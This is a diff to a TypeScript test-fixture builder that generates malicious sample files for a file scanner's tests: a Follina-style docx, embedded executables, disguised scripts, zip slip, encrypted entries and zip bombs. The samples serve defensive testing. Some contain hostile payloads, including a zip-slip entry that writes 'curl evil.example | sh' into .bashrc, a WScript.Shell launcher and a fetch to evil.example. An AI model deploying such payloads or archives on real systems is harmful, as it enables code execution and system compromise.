@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import sharp from 'sharp';
 import { EICAR } from '../../../src/files/scanner/signatures.ts';
 import { buildZip, deflatedZeros, type ZipEntry } from './zip-writer.ts';
@@ -203,12 +204,15 @@ async function build(): Promise<MaliciousFile[]> {
     malware('docx with an ms-msdt external link (Follina)', 'cv.docx', docx({ documentRels: `<Relationship Id="rId9" Type="${R}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>` }), /protocol/),
     malware('docx with an executable embedded', 'notes.docx', docx({ extra: [{ name: 'word/embeddings/oleObject1.bin', data: Buffer.concat([Buffer.alloc(512, 0x20), peExecutable()]) }] }), /oleObject1\.bin.*PE/),
     malware('docx with a script disguised as an image', 'memo.docx', docx({ extra: [{ name: 'word/media/image1.png', data: text('<script>fetch("http://evil.example")</script>') }] }), /image1\.png.*script/),
+    malware('docx with a JScript part', 'report.docx', docx({ extra: [{ name: 'word/embeddings/run.js', data: text('var s = new ActiveXObject("WScript.Shell"); s.Run("calc");') }] }), /script inside an Office document/),
     malware('docx with macros', 'budget.docx', docx({ extra: [{ name: 'word/vbaProject.bin', data: Buffer.alloc(64, 1) }] }), /macros/),
     malware('zip with an .exe', 'photos.zip', buildZip([{ name: 'IMG_0001.jpg.exe', data: text('not really a program') }]), /Windows would run/),
     malware('zip with a script named .jpg', 'pics.zip', buildZip([{ name: 'pics/cat.jpg', data: text('#!/usr/bin/env python3\nimport os\n') }]), /disguised/),
     malware('zip with an ELF named .png', 'icons.zip', buildZip([{ name: 'icon.png', data: elfExecutable() }]), /ELF/),
+    unsafe('zip with a path-traversal entry (zip slip)', 'slip.zip', buildZip([{ name: '../../.bashrc', data: text('curl evil.example | sh\n') }]), /relative path/),
+    unsafe('zip with an encrypted entry (cannot be inspected)', 'secret.zip', buildZip([{ name: 'invoice.pdf', data: randomBytes(200), store: true, encrypted: true }]), /encrypted/),
     unsafe('zip bomb: one entry, high ratio', 'zeros.zip', buildZip([{ name: 'zeros.bin', deflated: deflatedZeros(64) }]), /ratio|times/),
-    unsafe('zip bomb: total expansion', 'big.zip', buildZip(Array.from({ length: 16 }, (_, i) => ({ name: `part${i}.bin`, deflated: deflatedZeros(10) }))), /ratio|times|bytes/),
+    unsafe('zip bomb: total expansion (many 1 MiB entries)', 'big.zip', buildZip(Array.from({ length: 120 }, (_, i) => ({ name: `part${i}.bin`, deflated: deflatedZeros(1) }))), /declares more than \d+ bytes/),
     unsafe('zip bomb: declared size is a lie', 'liar.zip', buildZip([{ name: 'small.txt', deflated: deflatedZeros(200), declaredSize: 1000 }]), /declares|ratio|times|bytes/),
     unsafe('zip bomb: too many entries', 'many.zip', buildZip(Array.from({ length: 20_000 }, (_, i) => ({ name: `${i}`, data: Buffer.alloc(0), store: true }))), /entries/),
     unsafe('zip bomb: nested too deep', 'deep.zip', nest(6, buildZip([{ name: 'a.txt', data: text('hi') }])), /nested/),
